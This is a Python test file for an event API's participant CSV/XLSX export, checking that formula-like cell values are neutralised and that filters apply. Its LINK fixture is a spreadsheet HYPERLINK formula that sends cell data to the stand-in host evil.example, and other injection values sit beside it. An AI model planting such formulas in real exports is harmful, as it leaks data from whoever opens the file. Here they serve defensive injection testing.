"""``GET /api/v1/events/{event_id}/participants/export?format=csv|xlsx``: the list with check-in
status, filtered like the list, every formula-like cell neutralised."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.attendance_support import set_participant
from tests.consent_support import consenting
from turnout.bootstrap import Turnout

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def register(client: TestClient, event_id: str, **person: Any) -> dict[str, Any]:
    response = client.post(f"/api/v1/events/{event_id}/participants", json=consenting(person))
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def seed(client: TestClient, turnout: Turnout, event_id: str) -> None:
    response = client.post(f"/api/v1/events/{event_id}/status", json={"status": "open"})
    assert response.status_code == 200, response.text
    sneaky = register(
        client,
        event_id,
        name="@김민준",
        email="minjun@example.com",
        organization="-2+3",
        custom_fields={"memo": LINK, "+column": "\tcmd", "shirt": "\r=1+1"},
    )
    # as stored by an earlier version or another way in (the API trims or refuses some of these)
    set_participant(
        turnout,
        sneaky["id"],
        name=LINK,
        custom_fields={"memo": LINK, "+column": "\tcmd", "shirt": "\r=1+1"},
    )
    register(client, event_id, name="이서연", email="seoyeon@example.com", custom_fields={"shirt": "M"})


def test_csv_export_neutralises_formulas_in_every_text_column_when_values_start_like_one(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    seed(client, turnout, str(event["id"]))
    response = client.get(f"/api/v1/events/{event['id']}/participants/export", params={"format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    assert header[:3] == ["id", "name", "email"]
    assert "check_in_status" in header
    assert {"memo", "'+column", "shirt"} <= set(header)
    by_email = {row[header.index("email")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    sneaky = by_email["minjun@example.com"]
    assert sneaky["name"] == "'" + LINK
    assert sneaky["organization"] == "'-2+3"
    assert sneaky["memo"] == "'" + LINK
    assert sneaky["'+column"] == "'\tcmd"
    assert sneaky["shirt"] == "'\r=1+1"
    assert by_email["seoyeon@example.com"]["shirt"] == "M"
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def test_xlsx_export_holds_no_formula_when_values_start_like_one(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    seed(client, turnout, str(event["id"]))
    response = client.get(f"/api/v1/events/{event['id']}/participants/export", params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    values = [str(c.value) for c in cells]
    assert "'" + LINK in values
    assert not [v for v in values if v.startswith(FORMULA_START)]


def test_export_is_filtered_like_the_list_when_asked(
    client: TestClient, turnout: Turnout, event: dict[str, Any]
) -> None:
    seed(client, turnout, str(event["id"]))
    response = client.get(
        f"/api/v1/events/{event['id']}/participants/export", params={"format": "csv", "q": "seoyeon"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [row[2] for row in rows[1:]] == ["seoyeon@example.com"]
